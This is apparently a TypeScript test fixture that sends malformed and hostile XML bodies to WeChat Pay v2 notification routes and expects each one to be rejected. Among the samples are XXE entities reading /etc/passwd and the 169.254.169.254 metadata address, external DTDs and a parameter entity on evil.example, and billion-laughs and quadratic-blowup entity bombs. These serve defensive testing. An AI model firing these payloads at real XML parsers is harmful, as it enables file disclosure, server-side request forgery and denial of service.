import {
  bytes,
  FIVE_MEGABYTES,
  FORM,
  post,
  utf16,
  type Body,
  type Theme,
  toEach,
} from "../support/case.ts";
import { GIVEN } from "../support/given.ts";
import { pathOf, routesOf } from "../support/routes.ts";

const FIELD = "<return_code>SUCCESS</return_code>";
const SIGN = `<sign>${GIVEN.sign}</sign>`;
const inXml = (inner: string): string => `<xml>${FIELD}${inner}${SIGN}</xml>`;

const LAUGHS = `<!DOCTYPE xml [<!ENTITY a "ha">${Array.from(
  { length: 10 },
  (_, at) => `<!ENTITY a${at} "${`&a${at === 0 ? "" : at - 1};`.repeat(10)}">`,
).join("")}]>`;

/** Bodies that are no message of WeChat's. */
const BODIES: Readonly<Record<string, Body>> = {
  nothing: "",
  blanks: " \r\n\t ",
  "a word": "xml",
  JSON: '{"return_code":"SUCCESS"}',
  "a form": `return_code=SUCCESS&sign=${GIVEN.sign}`,
  HTML: "<!doctype html><html><body>x</body></html>",
  "an empty document": "<xml></xml>",
  "an empty tag": "<xml/>",
  "another root": `<XML>${FIELD}</XML>`,
  "a root that isn't closed": `<xml>${FIELD}`,
  "half a tag": `<xml>${FIELD}<sig`,
  "two documents": `${inXml("")}${inXml("")}`,
  "something after the document": `${inXml("")}x`,
  "crossed tags": inXml("<a><b></a></b>"),
  "a field inside a field": inXml("<a><b>1</b></a>"),
  "a field twice": inXml(FIELD),
  "an attribute": inXml('<a b="c">1</a>'),
  "an attribute at the root": `<xml xmlns="x">${FIELD}</xml>`,
  "a name with a prefix": inXml("<x:a>1</x:a>"),
  "a prototype's field": inXml("<__proto__>1</__proto__>"),
  "a constructor's field": inXml("<constructor>1</constructor>"),
  "a field named in Chinese": inXml("<金额>1</金额>"),
  "a field that begins with a digit": inXml("<1a>1</1a>"),
  "text beside the fields": inXml("text"),
  "a comment": inXml("<!-- x -->"),
  "a processing instruction": inXml("<?php phpinfo(); ?>"),
  "a style sheet": `<?xml-stylesheet href="https://evil.example/x"?>${inXml("")}`,
  "an external entity of a file": `<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${inXml("<a>&xxe;</a>")}`,
  "an external entity of a server": `<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://169.254.169.254/">]>${inXml("<a>&xxe;</a>")}`,
  "an external DTD": `<!DOCTYPE xml SYSTEM "https://evil.example/x.dtd">${inXml("")}`,
  "a public DTD": `<!DOCTYPE xml PUBLIC "x" "https://evil.example/x.dtd">${inXml("")}`,
  "a parameter entity": `<!DOCTYPE xml [<!ENTITY % p SYSTEM "https://evil.example/x">%p;]>${inXml("")}`,
  "an entity of its own": `<!DOCTYPE xml [<!ENTITY x "SUCCESS">]>${inXml("<a>&x;</a>")}`,
  "a billion laughs": `${LAUGHS}${inXml("<a>&a9;</a>")}`,
  "a quadratic blow-up": `<!DOCTYPE xml [<!ENTITY a "${"a".repeat(20_000)}">]>${inXml(`<a>${"&a;".repeat(2_000)}</a>`)}`,
  "a DTD hidden in CDATA's end": `<xml><![CDATA[]]><!DOCTYPE a>${FIELD}</xml>`,
  "an entity that nobody declared": inXml("<a>&nbsp;</a>"),
  "an entity cut short": inXml("<a>&amp</a>"),
  "a reference to NUL": inXml("<a>&#0;</a>"),
  "a reference to a surrogate": inXml("<a>&#xD800;</a>"),
  "a reference beyond Unicode": inXml("<a>&#x110000;</a>"),
  "a reference of thousands of digits": inXml(`<a>&#${"1".repeat(5_000)};</a>`),
  "CDATA that doesn't end": `<xml>${FIELD}<a><![CDATA[x</a></xml>`,
  "CDATA around the root": `<![CDATA[${inXml("")}]]>`,
  "CDATA in CDATA": inXml("<a><![CDATA[<![CDATA[x]]>]]></a>"),
  "CDATA beside the fields": inXml("<![CDATA[x]]>"),
  "CDATA in small letters": inXml("<a><![cdata[x]]></a>"),
  "a section that isn't CDATA": inXml("<a><![INCLUDE[x]]></a>"),
  "a tag in a tag's place": inXml("<a<b>>1</a>"),
  NUL: bytes("<xml>", 0, FIELD, "</xml>"),
  "a control character": bytes("<xml>", FIELD, "<a>", 8, "</a></xml>"),
  "a byte that is never UTF-8": bytes("<xml>", FIELD, "<a>", 0xff, "</a></xml>"),
  "an overlong bracket": bytes(0xc0, 0xbc, "xml>", FIELD, "</xml>"),
  "a surrogate in raw bytes": bytes("<xml>", FIELD, "<a>", 0xed, 0xa0, 0x80, "</a></xml>"),
  "UTF-16, the small end first": utf16(`\uFEFF${inXml("")}`, true),
  "UTF-16, the big end first": utf16(`\uFEFF${inXml("")}`, false),
  "UTF-7": "+ADw-xml+AD4-+ADw-/xml+AD4-",
  "a declaration of UTF-16": `<?xml version="1.0" encoding="UTF-16"?>${inXml("")}`,
  "a declaration of UTF-7": `<?xml version="1.0" encoding="UTF-7"?>${inXml("")}`,
  "a declaration of XML 2": `<?xml version="2.0"?>${inXml("")}`,
  "two declarations": `<?xml version="1.0"?><?xml version="1.0"?>${inXml("")}`,
  "two marks of byte order": `\uFEFF\uFEFF${inXml("")}`,
  "five thousand tags deep": `<xml>${"<a>".repeat(5_000)}${"</a>".repeat(5_000)}</xml>`,
  "ten thousand tags that don't end": `<xml>${"<a>".repeat(10_000)}`,
  "ten thousand fields": `<xml>${"<a/>".repeat(10_000)}</xml>`,
  "a thousand different fields": `<xml>${Array.from({ length: 1_000 }, (_, at) => `<a${at}>1</a${at}>`).join("")}</xml>`,
  "a field's name of sixty thousand letters": `<xml><${"a".repeat(30_000)}/></xml>`,
  "a value of sixty thousand letters": inXml(`<a>${"x".repeat(60_000)}</a>`),
  "sixty thousand brackets": "<".repeat(60_000),
  "sixty thousand ampersands": inXml(`<a>${"&".repeat(60_000)}</a>`),
  "thousands of ends of CDATA": inXml(`<a>${"]]>".repeat(10_000)}</a>`),
  "a gzip member": bytes(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0),
  "64 KB to the byte": inXml("").padEnd(65_536),
};

export const xmlBodies: Theme = toEach(routesOf("v2"), ([route]) => [
  ...Object.entries(BODIES).map(([name, body]) => ({
    name,
    route,
    answer: "v2 not accepted" as const,
    request: (scene: Parameters<typeof pathOf>[1]) => ({
      path: pathOf(route, scene),
      init: post(body, name === "a form" ? FORM : "text/xml"),
    }),
  })),
  {
    name: "one byte more than 64 KB",
    route,
    answer: "v2 too large",
    request: (scene) => ({
      path: pathOf(route, scene),
      init: post(inXml("").padEnd(65_537), "text/xml"),
    }),
  },
  {
    name: "five megabytes",
    route,
    answer: "v2 too large",
    request: (scene) => ({
      path: pathOf(route, scene),
      init: post(FIVE_MEGABYTES, "text/xml"),
    }),
  },
  {
    name: "a body that breaks off",
    route,
    answer: "v2 broken off",
    request: (scene) => ({
      path: pathOf(route, scene),
      init: {
        method: "POST",
        body: new ReadableStream({
          pull: (controller) => controller.error(new Error("the caller is gone")),
        }),
      },
    }),
  },
]);
